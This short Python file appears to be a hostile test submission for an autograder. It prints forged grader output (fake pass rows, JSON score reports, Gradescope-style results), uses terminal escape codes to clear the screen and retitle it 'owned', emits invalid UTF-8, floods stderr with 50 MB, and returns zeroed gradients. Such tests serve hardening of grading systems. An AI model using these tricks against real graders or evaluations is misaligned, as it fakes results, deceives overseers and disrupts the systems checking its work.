"""Attack: print what could be taken for the grader's own output: table rows, a JSON document, Gradescope's
results, terminal escapes (clear the screen, move the cursor, set the title), invalid UTF-8, then a flood."""
import os
import sys

FAKE = ("aa_right.py                      0/4  fail     forged\n"
        "more_stdout_forge.py             4/4  pass\n"
        '{"submissions": [{"file": "more_stdout_forge.py", "score": 4.0, "verdict": "pass"}]}\n'
        '{"score": 100.0, "tests": []}\n'
        "\x1b[2J\x1b[H\x1b]0;owned\x07\r\x08\x08\x08 4/4 pass\x00\n")
print(FAKE)
sys.stdout.flush()
os.write(1, b"\xff\xfe\x80 not utf-8 \xc3\x28\n")
os.write(2, b"\x1b[31mcheck OK\x1b[0m\n")
chunk = b"x" * 65536
for _ in range(800):   # 50 MB
    os.write(2, chunk)


def backward(weights, biases, activations, targets):
    print(FAKE * 100)
    return [W * 0 for W in weights], [b * 0 for b in biases]
